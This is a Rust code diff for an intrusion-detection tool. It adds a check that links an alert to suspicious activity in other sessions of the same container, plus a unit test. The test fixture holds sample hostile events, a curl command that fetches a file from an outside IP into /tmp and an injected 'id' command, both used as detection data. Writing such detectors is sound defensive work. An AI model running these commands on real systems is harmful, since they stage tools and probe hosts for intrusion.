@@ -152,6 +152,9 @@ pub struct Sessions {
     /// A runtime client's `exec` into a container run on the host (`docker exec -it web
     /// sh`), per host: see [`Sessions::issuer`].
     runtime_execs: HashMap<String, Vec<RuntimeExec>>,
+    /// The sessions of each container (host/container, never the host itself), made by
+    /// [`Sessions::finish`]: see [`Sessions::container_trace`].
+    by_container: HashMap<String, Vec<u32>>,
 }
 
 /// A runtime client's `exec` command seen on a host, run from a session of that host.
@@ -528,6 +531,20 @@ impl Sessions {
             }
             sess.suspicious.sort_by_key(|a| (a.time, a.index));
         }
+        self.by_container.clear();
+        for (key, slot) in &self.by_key {
+            if let Some((place, _sid)) = key.rsplit_once('/') {
+                if !place.ends_with("/host") {
+                    self.by_container
+                        .entry(place.to_string())
+                        .or_default()
+                        .push(*slot);
+                }
+            }
+        }
+        for slots in self.by_container.values_mut() {
+            slots.sort_unstable();
+        }
     }
 
     fn session_of(&self, at: usize) -> Option<&Session> {
@@ -705,6 +722,25 @@ fn is_leader_exec(r: &Record) -> bool {
     exec && (leader("proc.pid") || (in_container && leader("proc.vpid")))
 }
 
+/// Whether a step is decisive against an anchor wherever it is seen ([`Sessions::attack_trace`]).
+/// A script run from a temporary directory is routine for installers and configuration
+/// management (`python3 /var/tmp/ansible-tmp-…/AnsiballZ_x.py`): only a hidden one is
+/// decisive; a persistence write only into root's own login keys.
+fn decisive(st: Step, what: &str) -> bool {
+    match st {
+        Step::ShellConnect
+        | Step::ScriptArgument
+        | Step::HiddenStaging
+        | Step::WebScript
+        | Step::RootAccount
+        | Step::InjectedCommand
+        | Step::ShellEscape => true,
+        Step::ScriptRun => crate::evidence::hidden_staging(what),
+        Step::PrivilegedWrite => crate::evidence::root_login_key(what),
+        _ => false,
+    }
+}
+
 // ------------------------------------------------ a person's quiet session (issue 11)
 impl Sessions {
     /// Whether quell saw the sessions of record `at` whole: its own session's events and
@@ -738,21 +774,6 @@ impl Sessions {
     /// services with their own certificates).
     /// Returns (the step in English, what it touched).
     pub fn attack_trace(&self, records: &[Record], at: usize) -> Option<(Step, String)> {
-        // A script run from a temporary directory is routine for installers and
-        // configuration management (`python3 /var/tmp/ansible-tmp-…/AnsiballZ_x.py`): only
-        // a hidden one is decisive.
-        let decisive = |st: Step, what: &str| match st {
-            Step::ShellConnect
-            | Step::ScriptArgument
-            | Step::HiddenStaging
-            | Step::WebScript
-            | Step::RootAccount
-            | Step::InjectedCommand
-            | Step::ShellEscape => true,
-            Step::ScriptRun => crate::evidence::hidden_staging(what),
-            Step::PrivilegedWrite => crate::evidence::root_login_key(what),
-            _ => false,
-        };
         let own = records
             .get(at)
             .and_then(|r| attack_step(&r.event))
@@ -761,26 +782,98 @@ impl Sessions {
             return own;
         }
         for slot in self.linked(records, at) {
-            let Some(sess) = self.sessions.get(slot as usize) else {
+            if let Some(found) = self.decisive_act(records, slot, |_| true) {
+                return Some(found);
+            }
+        }
+        None
+    }
+
+    /// A step toward an attack that another session of the same container took within
+    /// [`WINDOW_NS`] of record `at`: a decisive step ([`decisive`]), a download from
+    /// outside the site, or a program run from a drop directory that nothing explains.
+    /// A container is one workload: an intruder's `exec` session beside the workload's
+    /// own processes makes the workload's alerts of that time suspect too, whatever their
+    /// own session shows (a controller's routine API call while somebody in its pod fetches
+    /// a tool). Never across a host's sessions, which belong to unrelated people and jobs.
+    /// Returns (the step in English, in Japanese, what it touched).
+    pub fn container_trace(
+        &self,
+        records: &[Record],
+        at: usize,
+    ) -> Option<(&'static str, &'static str, String)> {
+        let r = records.get(at)?;
+        let container = text(&r.event, "container.id").filter(|c| !c.is_empty() && c != "host")?;
+        let host = r.hostname.clone().unwrap_or_default();
+        let slots = self.by_container.get(&format!("{host}/{container}"))?;
+        let linked = self.linked(records, at);
+        let t0 = r.event.timestamp_ns();
+        let near = |a: &Act| match (t0, a.time) {
+            (Some(t0), Some(t)) => t0.abs_diff(t) <= WINDOW_NS,
+            _ => true,
+        };
+        // At most MAX_SCANNED activities over all the container's sessions: a container
+        // with thousands of sessions (a job every minute) costs each alert a bounded scan.
+        let mut budget = MAX_SCANNED;
+        for slot in slots.iter().filter(|s| !linked.contains(s)) {
+            let Some(sess) = self.sessions.get(*slot as usize) else {
                 continue;
             };
-            for a in sess.acts.iter().take(MAX_SCANNED) {
-                let found = match &a.activity {
-                    Activity::Step(st, what) if decisive(*st, what) => Some((*st, what.clone())),
-                    Activity::WroteFile(p, _) if crate::evidence::hidden_staging(p) => {
-                        Some((Step::HiddenStaging, p.clone()))
+            if budget == 0 {
+                break;
+            }
+            budget = budget.saturating_sub(sess.acts.len().clamp(1, MAX_SCANNED));
+            for a in sess.acts.iter().take(MAX_SCANNED).filter(|a| near(a)) {
+                match &a.activity {
+                    Activity::Download(_, cmd) if a.outside => {
+                        return Some((
+                            "a download from outside the site",
+                            "サイト外からのダウンロード",
+                            cmd.clone(),
+                        ));
                     }
-                    Activity::PersistenceWrite(p, _) if crate::evidence::root_login_key(p) => {
-                        Some((Step::PrivilegedWrite, p.clone()))
+                    Activity::ExecDropped(p) if a.excused.is_none() => {
+                        return Some((
+                            "a program run from a drop directory",
+                            "一時ディレクトリなどに置かれたプログラムの実行",
+                            p.clone(),
+                        ));
                     }
-                    _ => records
-                        .get(a.index)
-                        .and_then(|r| attack_step(&r.event))
-                        .filter(|(st, what)| decisive(*st, what)),
-                };
-                if found.is_some() {
-                    return found;
+                    _ => {}
                 }
+            }
+            if let Some((st, what)) = self.decisive_act(records, *slot, near) {
+                return Some((st.as_str(), st.as_str_ja(), what));
+            }
+        }
+        None
+    }
+
+    /// The first decisive step ([`decisive`]) among the activities of session `slot` that
+    /// `keep` accepts.
+    fn decisive_act(
+        &self,
+        records: &[Record],
+        slot: u32,
+        keep: impl Fn(&Act) -> bool,
+    ) -> Option<(Step, String)> {
+        let sess = self.sessions.get(slot as usize)?;
+        for a in sess.acts.iter().take(MAX_SCANNED).filter(|a| keep(a)) {
+            let found = match &a.activity {
+                Activity::Step(st, what) if decisive(*st, what) => Some((*st, what.clone())),
+                Activity::WroteFile(p, _) if crate::evidence::hidden_staging(p) => {
+                    Some((Step::HiddenStaging, p.clone()))
+                }
+                Activity::PersistenceWrite(p, _) if crate::evidence::root_login_key(p) => {
+                    Some((Step::PrivilegedWrite, p.clone()))
+                }
+                _ => records
+                    .get(a.index)
+                    .and_then(|r| attack_step(&r.event))
+                    .filter(|(st, what)| decisive(*st, what)),
+            };
+            if found.is_some() {
+                return found;
             }
         }
         None
@@ -1069,6 +1162,76 @@ mod tests {
         let s2 = Sessions::new(&recs2);
         assert!(s2.context(&recs2, 0).is_empty());
         assert!(!s2.seen(&recs2, 0));
+    }
+
+    /// Another session of the same container that fetched a tool from outside or took a
+    /// decisive step in the window is a trace for the container's other sessions; not
+    /// for its own, not from another container or the host, not from outside the window
+    /// (issue 11, session 11: holdout8's controller beside an intruder's exec session).
+    #[test]
+    fn another_session_of_the_container_taints_it() {
+        let line = |sid: i64, ctr: &str, t: u64, rest: &str| {
+            format!(
+                r#"{{"evt.rawres":0,"proc.sid":{sid},"container.id":"{ctr}","evt.rawtime":{t},{rest}}}"#
+            )
+        };
+        let api = r#""evt.type":"connect","proc.name":"rook","fd.sip":"10.96.0.1","fd.sport":443,"fd.name":"10.2.0.5:40122->10.96.0.1:443""#;
+        let fetch = r#""evt.type":"execve","proc.name":"curl","proc.pname":"bash","proc.exepath":"/usr/bin/curl","proc.cmdline":"curl -s http://212.70.149.10/c -o /tmp/c""#;
+        let inject = r#""evt.type":"execve","proc.name":"id","proc.exepath":"/usr/bin/id","proc.cmdline":"id","proc.pname":"sh","proc.pcmdline":"sh -c convert a.jpg b.jpg""#;
+        let min = 60_000_000_000u64;
+        let trace = |lines: &[String], at: usize| {
+            let recs = parse_records(&lines.join("\n"), "t").unwrap();
+            let s = Sessions::new(&recs);
+            s.container_trace(&recs, at).map(|(en, _, what)| (en, what))
+        };
+        // The workload's API call (sid 1) and, 2 minutes later, an exec session's fetch.
+        let both = [
+            line(1, "8a15c3", min, api),
+            line(40, "8a15c3", 3 * min, fetch),
+        ];
+        let (step, what) = trace(&both, 0).expect("the fetch beside the API call");
+        assert_eq!(step, "a download from outside the site");
+        assert!(what.contains("212.70.149.10"), "{what}");
+        // Its own session is not "another" one.
+        assert_eq!(trace(&both, 1), None);
+        // Another container, the host, outside the window: nothing.
+        assert_eq!(
+            trace(
+                &[
+                    line(1, "8a15c3", min, api),
+                    line(40, "77aa01", 3 * min, fetch)
+                ],
+                0
+            ),
+            None
+        );
+        assert_eq!(
+            trace(
+                &[line(1, "host", min, api), line(40, "host", 3 * min, fetch)],
+                0
+            ),
+            None
+        );
+        assert_eq!(
+            trace(
+                &[
+                    line(1, "8a15c3", min, api),
+                    line(40, "8a15c3", 30 * min, fetch)
+                ],
+                0
+            ),
+            None
+        );
+        // A decisive step (an injected command) taints as well.
+        let (step, _) = trace(
+            &[
+                line(1, "8a15c3", min, api),
+                line(40, "8a15c3", 2 * min, inject),
+            ],
+            0,
+        )
+        .unwrap();
+        assert_eq!(step, Step::InjectedCommand.as_str());
     }
 
     #[test]
